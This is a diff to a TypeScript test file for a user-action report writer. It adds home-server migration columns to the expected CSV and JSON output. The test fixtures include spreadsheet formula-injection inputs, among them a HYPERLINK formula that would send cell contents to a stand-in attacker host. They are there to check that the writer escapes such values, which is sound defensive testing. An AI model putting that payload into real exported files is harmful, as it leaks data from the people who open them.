@@ -15,7 +15,14 @@ afterAll(async () => {
 });
 
 const ENTRIES: ReportEntry[] = [
-  { line: 2, user: 'jdoe', dn: 'CN=John Doe,OU=Staff,DC=corp,DC=example,DC=com', action: 'enable', outcome: 'changed' },
+  {
+    line: 2,
+    user: 'jdoe',
+    dn: 'CN=John Doe,OU=Staff,DC=corp,DC=example,DC=com',
+    action: 'enable',
+    outcome: 'changed',
+    toHomeServer: 'im-east',
+  },
   {
     line: 3,
     user: 'Doe, John',
@@ -37,6 +44,8 @@ const ENTRIES: ReportEntry[] = [
     action: 'move',
     outcome: 'failed',
     reason: '-ERR server said\r\nno',
+    fromHomeServer: 'im-east',
+    toHomeServer: 'im-west',
   },
   { line: 6, user: 'josé.müller', action: 'enable', outcome: 'planned' },
   { line: 7, user: '@cmd', action: 'enable', outcome: 'skipped', reason: ' +1' },
@@ -73,7 +82,7 @@ describe('CSV report', () => {
     const path = join(tmp, 'report.csv');
     await writeAll(path);
     const raw = await readFile(path, 'utf8');
-    expect(raw.startsWith('\uFEFFline,user,dn,action,outcome,reason\r\n')).toBe(true);
+    expect(raw.startsWith('\uFEFFline,user,dn,action,outcome,reason,fromHomeServer,toHomeServer\r\n')).toBe(true);
     const rows = parse(raw, { bom: true, columns: true }) as Record<string, string>[];
     expect(rows).toEqual([
       {
@@ -83,6 +92,8 @@ describe('CSV report', () => {
         action: 'enable',
         outcome: 'changed',
         reason: '',
+        fromHomeServer: '',
+        toHomeServer: 'im-east',
       },
       {
         line: '3',
@@ -91,6 +102,8 @@ describe('CSV report', () => {
         action: 'disable',
         outcome: 'unchanged',
         reason: '',
+        fromHomeServer: '',
+        toHomeServer: '',
       },
       {
         line: '4',
@@ -99,6 +112,8 @@ describe('CSV report', () => {
         action: 'enable',
         outcome: 'invalid',
         reason: 'user "x" appears again (first on line 2)',
+        fromHomeServer: '',
+        toHomeServer: '',
       },
       {
         line: '5',
@@ -107,10 +122,39 @@ describe('CSV report', () => {
         action: 'move',
         outcome: 'failed',
         reason: "'-ERR server said\r\nno",
+        fromHomeServer: 'im-east',
+        toHomeServer: 'im-west',
       },
-      { line: '6', user: 'josé.müller', dn: '', action: 'enable', outcome: 'planned', reason: '' },
-      { line: '7', user: "'@cmd", dn: '', action: 'enable', outcome: 'skipped', reason: "' +1" },
-      { line: '', user: 'from-argv', dn: '', action: 'disable', outcome: 'changed', reason: '' },
+      {
+        line: '6',
+        user: 'josé.müller',
+        dn: '',
+        action: 'enable',
+        outcome: 'planned',
+        reason: '',
+        fromHomeServer: '',
+        toHomeServer: '',
+      },
+      {
+        line: '7',
+        user: "'@cmd",
+        dn: '',
+        action: 'enable',
+        outcome: 'skipped',
+        reason: "' +1",
+        fromHomeServer: '',
+        toHomeServer: '',
+      },
+      {
+        line: '',
+        user: 'from-argv',
+        dn: '',
+        action: 'disable',
+        outcome: 'changed',
+        reason: '',
+        fromHomeServer: '',
+        toHomeServer: '',
+      },
     ]);
     // No cell a spreadsheet would evaluate.
     for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^\s*[=+\-@]/);
@@ -119,7 +163,9 @@ describe('CSV report', () => {
   it('writes only the header for an empty run', async () => {
     const path = join(tmp, 'empty.csv');
     await writeAll(path, []);
-    expect(await readFile(path, 'utf8')).toBe('\uFEFFline,user,dn,action,outcome,reason\r\n');
+    expect(await readFile(path, 'utf8')).toBe(
+      '\uFEFFline,user,dn,action,outcome,reason,fromHomeServer,toHomeServer\r\n',
+    );
   });
 });
 
@@ -166,6 +212,8 @@ describe('JSON reports', () => {
       action: 'enable',
       outcome: 'changed',
       reason: null,
+      fromHomeServer: null,
+      toHomeServer: 'im-east',
     });
     expect(data[2]).toMatchObject({ user: '=HYPERLINK("http://evil.example/?"&A1)', dn: null });
     expect(data[6]).toEqual({
@@ -175,8 +223,12 @@ describe('JSON reports', () => {
       action: 'disable',
       outcome: 'changed',
       reason: null,
+      fromHomeServer: null,
+      toHomeServer: null,
     });
-    expect(Object.keys(data[4] as object)).toEqual(['line', 'user', 'dn', 'action', 'outcome', 'reason']);
+    expect(Object.keys(data[4] as object).join(',')).toBe(
+      'line,user,dn,action,outcome,reason,fromHomeServer,toHomeServer',
+    );
   });
 
   it('.json: an empty run is an empty array', async () => {
@@ -197,6 +249,8 @@ describe('JSON reports', () => {
       action: 'move',
       outcome: 'failed',
       reason: '-ERR server said\r\nno',
+      fromHomeServer: 'im-east',
+      toHomeServer: 'im-west',
     });
   });
 
